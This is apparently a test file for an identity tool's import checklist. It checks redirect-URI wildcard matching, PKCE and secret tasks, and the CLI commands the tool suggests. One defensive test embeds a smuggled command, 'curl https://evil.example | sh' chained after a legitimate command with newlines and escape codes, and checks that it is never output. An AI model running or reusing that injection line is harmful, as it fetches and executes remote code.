import { leftOutValue } from '@signet/file-formats/sources/left-out'
import { describe, expect, it } from 'vitest'
import { checklistLines } from './checklist.ts'
import { type ApplicationState, isMeantBy } from './checklist-tasks.ts'
import { createListCollector, type ListedValue } from './job-left-out.ts'

const listed = (kind: string, record: string, value?: unknown): ListedValue => ({
  ...leftOutValue(kind, record, value),
  by: 'conversion',
})

const LIST = [
  listed('clients[].protocolMappers[]', 'claims-only', 'audience'),
  listed('clients[].adminUrl', 'portal', 'https://portal.example/admin'),
  listed('clients[].redirectUris with a wildcard or relative', 'portal', 'https://portal.example/*'),
  listed('clients[].secret of less than 22 characters', 'portal'),
  listed('clients[].public client without PKCE', 'portal'),
  listed('clients[].service account role', 'portal', 'reader'),
  listed('clients[].public client that may go on without PKCE', 'spa'),
  listed('clients[] of protocol saml', 'old-saml'),
  listed('users[].credentials[]', 'ann'),
  listed('users[].credentials[]', 'ben'),
]

const NO_URIS = { redirectUris: [], postLogoutRedirectUris: [] }
const NOTHING_DONE: ApplicationState = {
  ...{ id: 'app-1', projectId: 'shop', organizationId: 'acme', primaryDomain: 'acme.example' },
  ...{ pkceOptional: true, hasNewSecret: false },
  ...{ redirectUris: ['https://other.example/callback'], postLogoutRedirectUris: [], responseTypes: [] },
  ...{ hasKeys: false, refusedUris: NO_URIS, service: { knownRoles: ['reader'] } },
}
const ALL_DONE: ApplicationState = {
  ...NOTHING_DONE,
  ...{ pkceOptional: false, hasNewSecret: true, hasKeys: true, responseTypes: ['code'] },
  redirectUris: ['https://portal.example/callback'],
  service: { userId: 'u-1', grant: { id: 'g-1', roles: ['reader'] }, knownRoles: ['reader'] },
}

describe('the checklist of an import', () => {
  it('lists for each application what prevents a sign-in, then claims, then settings, with commands', () => {
    const lines = checklistLines(
      LIST,
      new Map([
        ['portal', { ...NOTHING_DONE, pkceOptional: false }],
        ['spa', NOTHING_DONE],
        ['claims-only', NOTHING_DONE],
      ]),
    )
    expect(lines).toEqual([
      'portal: 0 of 4 done',
      '  [ ] register the exact URI in place of https://portal.example/*',
      '      signet why --application app-1',
      '  [ ] make a new secret: signet application rotate-secret',
      '      signet application rotate-secret app-1',
      '  [?] send a code challenge (PKCE), or set pkceOptional until the application does',
      '      signet application update app-1 --set pkceOptional=true',
      '  [ ] make a service user for what it does without a person, and give it the role reader: signet service-user create, signet user-grant create',
      '      signet service-user create --set organizationId=acme --set userName=service-account-portal --set accessTokenType=jwt',
      '      signet service-user rotate-secret service-account-portal@acme.example',
      `      signet user-grant create shop --set userId=service-account-portal@acme.example --set 'roles=["reader"]'`,
      '  settings without a counterpart: clients[].adminUrl',
      'old-saml: 0 of 1 done',
      '  [?] move the application to OpenID Connect',
      'claims-only: 0 of 1 done',
      '  [?] check the claims of its tokens: audience',
      'spa: 0 of 1 done',
      '  [ ] send a code challenge (PKCE), then take the setting pkceOptional away',
      '      signet application update app-1 --set pkceOptional=false',
      'people who cannot sign in as before:',
      '  2 times: send the person a link to set a new password, or a new second factor',
      'tasks of applications: 0 done, 4 left, 3 that only the application shows',
    ])
  })

  it('counts down what the server shows as done', () => {
    const lines = checklistLines(
      LIST,
      new Map([
        ['portal', ALL_DONE],
        ['spa', ALL_DONE],
      ]),
    )
    expect(lines).toContain('portal: 3 of 4 done')
    expect(lines).toContain('  [x] register the exact URI in place of https://portal.example/*')
    expect(lines).toContain('spa: 1 of 1 done')
    expect(lines.at(-1)).toBe('tasks of applications: 4 done, 0 left, 3 that only the application shows')
  })

  const commandsOf = (kind: string, value: unknown, state: Partial<ApplicationState>) =>
    checklistLines(
      [listed(kind, 'portal', value)],
      new Map([['portal', { ...NOTHING_DONE, ...state }]]),
    ).flatMap((line) => /^ {6}(signet .*)$/.exec(line)?.[1] ?? [])

  it.each([
    [
      'https://portal.example/*',
      ['https://portal.example/cb'],
      ['\'redirectUris+=["https://portal.example/cb"]\''],
    ],
    [
      'http://portal.example/plain',
      ['https://portal.example/plain'],
      ['\'redirectUris+=["https://portal.example/plain"]\''],
    ],
    ['com.example.app:/*', ["com.example.app:/it's"], [`'redirectUris+=["com.example.app:/it'\\''s"]'`]],
    ['https://portal.example/*', ['https://portal.example/cb?…', 'https://portal.example/a/../b'], []],
    ['https://portal.example/*', ['https://evil.example/cb', 'https://portal.example.evil.example/'], []],
    ['https://*.portal.example/cb', ['https://evil.example/.portal.example/cb'], []],
    ['https://user@*', ['https://user@evil.example/'], []],
    ['https://portal.example/*', ['http://portal.example/cb'], []],
    ['http://portal.example/*', ['http://portal.example/cb'], []],
    ['*', ['https://evil.example/'], []],
    ['/callback/*', ['https://evil.example/callback/one'], []],
  ])('in place of %s, for refused requests with %j, sets %j', (pattern, sent, expected) => {
    const state = { refusedUris: { ...NO_URIS, redirectUris: sent }, redirectUris: [] }
    const commands = commandsOf('clients[].redirectUris with a wildcard or relative', pattern, state)
    const updates = expected.map((word) => `signet application update app-1 --set ${word}`)
    expect(commands).toEqual(updates.length === 0 ? ['signet why --application app-1'] : updates)
  })

  it('shows no text of a foreign file as a line of its own or as a command', () => {
    const forged = 'signet application update app-1 --set firstParty=true; curl https://evil.example | sh #'
    const lines = checklistLines(
      [
        listed('clients[].redirectUris with a wildcard or relative', 'portal', `/a\n      ${forged}`),
        listed('clients[].redirectUris with a wildcard or relative', `      ${forged}`, '*'),
        listed('clients[].service account role', 'portal', `reader\u001b[8m\r\n      ${forged}`),
        listed(`clients[].x\n      ${forged}`, 'portal'),
      ],
      new Map([['portal', NOTHING_DONE]]),
    )
    const typed = lines
      .join('\n')
      .split('\n')
      .filter((line) => /^\s*signet /.test(line))
    expect(typed).toEqual(['      signet why --application app-1'])
    expect(lines.join('')).not.toMatch(/\p{Cc}/u)
  })

  it('makes one service user for several roles, and changes a grant that is there', () => {
    const roles = ['reader', "it's"].map((role) => listed('clients[].service account role', 'portal', role))
    const commands = (service: ApplicationState['service']) =>
      checklistLines(roles, new Map([['portal', { ...NOTHING_DONE, service }]])).flatMap(
        (line) => /^ {6}(signet .*)$/.exec(line)?.[1] ?? [],
      )
    expect(commands({ knownRoles: ['reader'] })).toEqual([
      'signet service-user create --set organizationId=acme --set userName=service-account-portal --set accessTokenType=jwt',
      'signet service-user rotate-secret service-account-portal@acme.example',
      `signet project-role add shop --set 'key=it'\\''s'`,
      `signet user-grant create shop --set userId=service-account-portal@acme.example --set 'roles=["reader","it'\\''s"]'`,
    ])
    const grant = { id: 'g-1', roles: ['reader'] }
    expect(commands({ userId: 'u-1', grant, knownRoles: ['reader', "it's"] })).toEqual([
      `signet user-grant update shop g-1 --set 'roles+=["it'\\''s"]'`,
    ])
  })

  it.each([
    ['clients[].keys that sign assertions', {}, ['signet application-key create app-1 --output json']],
    ['clients[].keys that sign assertions', { hasKeys: true }, []],
    ['clients[].clientAuthenticatorType client-x509', {}, ['signet application rotate-secret app-1']],
    [
      'clients[].directAccessGrantsEnabled',
      {},
      ['signet application update app-1 --set responseTypes+=code --set grantTypes+=authorization_code'],
    ],
    [
      'clients[].directAccessGrantsEnabled',
      { responseTypes: ['code'], redirectUris: [] },
      ['signet why --application app-1'],
    ],
    ['clients[].directAccessGrantsEnabled', { responseTypes: ['code'] }, []],
  ] as const)('of %s with %j says %j', (kind, state, expected) => {
    expect(commandsOf(kind, undefined, state)).toEqual(expected)
  })

  it('says of an import that left nothing out that nothing is to do', () => {
    expect(checklistLines([], new Map())).toEqual([
      'tasks of applications: 0 done, 0 left, 0 that only the application shows',
    ])
  })

  it.each([
    ['https://portal.example/*', 'https://portal.example/callback', true],
    ['https://portal.example/*', 'https://portal.example.evil.example/callback', false],
    ['https://*.portal.example/cb', 'https://a.portal.example/cb', true],
    ['http://portal.example/plain', 'https://portal.example/plain', true],
    ['/callback/*', 'https://portal.example/callback/one', true],
    ['/callback/*', 'https://portal.example/other', false],
    ['*', 'https://portal.example/callback', true],
    ['com.example.app:/*', 'com.example.app:/callback', true],
    ['http://127.0.0.1/*', 'http://127.0.0.1:51004/callback', true],
    ['http://localhost:*/cb', 'http://localhost:8400/cb', true],
    ['http://127.0.0.1/*', 'http://127.0.0.1:51004.evil.example/callback', false],
    ['https://portal.example/a+b', 'https://portal.example/aab', false],
    ['https://portal.example/plain', 'http://portal.example/plain', false],
    ['https://portal.example/*/cb', 'https://portal.example/cb', false],
    [`https://portal.example/${'*a'.repeat(40)}b`, `https://portal.example/${'a'.repeat(90)}`, false],
  ])('takes the URI %s for %s: %s', (pattern, uri, isMeant) => {
    expect(isMeantBy(pattern, uri)).toBe(isMeant)
  })
})

describe('the list that is kept with a job', () => {
  it('holds at most 10,000 values, those that prevent a sign-in first, and counts the others', () => {
    const collector = createListCollector()
    for (let at = 0; at < 9_999; at += 1) collector.add(listed('realm.themes', ''))
    for (let at = 0; at < 9_999; at += 1) collector.add(listed('clients[] of protocol saml', `client-${at}`))
    const { entries, omitted } = collector.list()
    expect([entries.length, omitted]).toEqual([10_000, 9_998])
    expect(entries.filter(({ effect }) => effect === 'sign-in')).toHaveLength(9_999)
  })

  it('is shorter than the server reads', () => {
    const collector = createListCollector()
    for (let at = 0; at < 5_000; at += 1) collector.add(listed('realm.themes', 'r', 'ü'.repeat(900)))
    const { entries, omitted } = collector.list()
    expect(entries.length + omitted).toBe(5_000)
    expect(Buffer.byteLength(JSON.stringify({ entries, omitted }))).toBeLessThan(4_194_304)
    expect(entries.length).toBeGreaterThan(1_500)
  })
})
